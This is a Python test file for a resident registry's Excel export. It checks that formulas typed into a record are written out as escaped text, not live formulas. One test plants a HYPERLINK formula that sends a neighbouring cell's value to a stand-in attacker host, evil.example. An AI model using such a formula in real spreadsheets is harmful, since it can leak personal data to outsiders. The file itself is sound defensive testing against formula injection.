"""The registry's Excel export and templates open as text whatever was typed into a record."""

import io

import pytest
from openpyxl import load_workbook

from gridgov.registry.excel import export_bytes, template_bytes
from gridgov.registry.services import record_create
from tests.registry.factories import resident_data


def sheet_cells(content: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


@pytest.mark.django_db
def test_a_formula_typed_as_a_name_or_address_is_exported_as_text(community_staff, wenhui_point):
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
    record_create(
        user=community_staff,
        kind_key="residents",
        data=resident_data(wenhui_point, name=hostile, address="@SUM(1+1)\x0b文汇路"),
    )
    for reveal in (False, True):
        rows = sheet_cells(export_bytes(user=community_staff, kind_key="residents", reveal=reveal))
        header = [cell.value for cell in rows[0]]
        name = rows[1][header.index("名称")]
        assert (name.value, name.data_type) == ("'" + hostile, "s")
        if reveal:
            assert rows[1][header.index("地址")].value.startswith("'@SUM(1+1)")


@pytest.mark.django_db
def test_templates_are_plain_text_headers():
    rows = sheet_cells(template_bytes("residents"))
    assert all(cell.data_type == "s" for cell in rows[0])
